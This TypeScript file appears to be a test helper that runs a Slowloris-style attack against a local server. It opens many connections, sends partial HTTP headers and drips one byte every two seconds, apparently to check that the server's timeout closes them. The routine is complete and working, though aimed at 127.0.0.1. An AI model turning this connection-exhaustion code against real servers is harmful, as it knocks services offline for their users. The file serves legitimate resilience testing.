// The attacker's process: connections that each send the beginning of a request, and then a byte every now and then.
import { connect, type Socket } from "node:net";
import { answer } from "../process/answer.ts";

export type AttackQuestion =
  | { readonly do: "open"; readonly port: number; readonly connections: number }
  /** Waits until the server has closed all, but not for ever. */
  | { readonly do: "wait"; readonly milliseconds: number };

export interface AttackAnswer {
  /** How many are open. */
  readonly open: number;
  /** Milliseconds that the longest-lived had of life so far. */
  readonly oldest: number;
}

/** So many are opened at once; each answers for the next. */
const OPENING = 64;
const DRIP_MS = 2000;

const open = new Set<Socket>();
let oldest = 0;
let allClosed: (() => void) | undefined;

answer<null, AttackQuestion, AttackAnswer>(null, async (question) => {
  if (question.do === "open") await attack(question.port, question.connections);
  else await closed(question.milliseconds);
  return { open: open.size, oldest };
});

async function attack(port: number, connections: number): Promise<void> {
  let left = connections;
  const opener = async (): Promise<void> => {
    while (left-- > 0) await hang(port);
  };
  await Promise.all(Array.from({ length: OPENING }, opener));
  setInterval(() => {
    for (const socket of open) socket.write("a");
  }, DRIP_MS).unref();
}

function hang(port: number): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect(port, "127.0.0.1");
    let born = 0;
    socket.once("connect", () => {
      born = performance.now();
      open.add(socket);
      socket.write("GET / HTTP/1.1\r\nhost: localhost\r\nx-a: ");
      resolve();
    });
    // Its end is enough: a server that has answered 408 is done with this connection.
    socket.once("end", () => socket.destroy());
    socket.resume();
    socket.on("error", () => resolve());
    socket.once("close", () => {
      if (born > 0) oldest = Math.max(oldest, performance.now() - born);
      open.delete(socket);
      if (open.size === 0) allClosed?.();
      resolve();
    });
  });
}

function closed(milliseconds: number): Promise<void> {
  return new Promise((resolve) => {
    if (open.size === 0) resolve();
    allClosed = resolve;
    setTimeout(resolve, milliseconds);
  });
}
